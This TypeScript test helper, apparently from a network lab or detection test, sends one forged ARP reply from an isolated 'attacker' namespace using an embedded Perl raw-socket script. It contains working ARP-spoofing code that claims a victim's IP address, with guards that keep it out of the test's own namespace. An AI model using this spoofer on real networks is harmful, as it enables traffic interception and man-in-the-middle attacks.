import { spawn } from 'node:child_process';
import { readlinkSync } from 'node:fs';

/**
 * One forged ARP answer, sent at once: arpspoof would first ask around. The guards are two: the caller names the inode of the
 * namespace that it made, and the sender itself looks where it stands before it opens a socket.
 */
const SENDER = `
use strict; use Socket; use Time::HiRes qw(time);
my ($inode, $own, $dev, $src, $dst, $spa, $tpa) = @ARGV;
my $here = readlink('/proc/self/ns/net');
die "refused: $here is not net:[$inode]\\n" unless $here eq "net:[$inode]";
die "refused: this is the net namespace of the test itself\\n" if $here eq $own;
my $index = do { open my $f, '<', '/proc/net/dev_mcast' or die $!; my $i; while (<$f>) { my @w = split; $i = $w[0] if $w[1] eq $dev } $i } or die "no $dev\\n";
my $mac = sub { pack 'C6', map { hex } split /:/, $_[0] };
my $frame = $mac->($dst) . $mac->($src) . pack('n', 0x0806) . pack('nnCCn', 1, 0x0800, 6, 4, 2) . $mac->($src) . inet_aton($spa) . $mac->($dst) . inet_aton($tpa);
socket(my $s, 17, 3, unpack('S', pack('n', 0x0806))) or die "socket: $!\\n";
my $to = pack('SnlSCCa8', 17, 0x0806, $index, 1, 0, 6, $mac->($dst));
my $at = time;
send($s, $frame . "\\0" x 18, 0, $to) or die "send: $!\\n";
printf "%.3f\\n", $at * 1000;
`;

export interface Forged {
  /** A process in the attacker's net namespace. */
  readonly pid: number;
  readonly dev: string;
  /** MAC of the attacker, of the victim; the address that is claimed, the victim's. */
  readonly src: string;
  readonly dst: string;
  readonly claims: string;
  readonly to: string;
}

/** Sends one forged answer; answers when it was sent, in milliseconds of the wall clock. */
export function forge(f: Forged): Promise<number> {
  const inode = /\d+/.exec(readlinkSync(`/proc/${f.pid}/ns/net`))?.[0] ?? '';
  const own = readlinkSync('/proc/self/ns/net');
  if (`net:[${inode}]` === own) return Promise.reject(new Error('refused: the attacker is in the net namespace of the test itself'));
  return new Promise((done, fail) => {
    const child = spawn('nsenter', [`--net=/proc/${f.pid}/ns/net`, 'perl', '-e', SENDER, inode, own, f.dev, f.src, f.dst, f.claims, f.to], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
    child.on('error', fail);
    child.on('close', (code) => (code === 0 ? done(Number(out)) : fail(new Error(err.trim()))));
  });
}
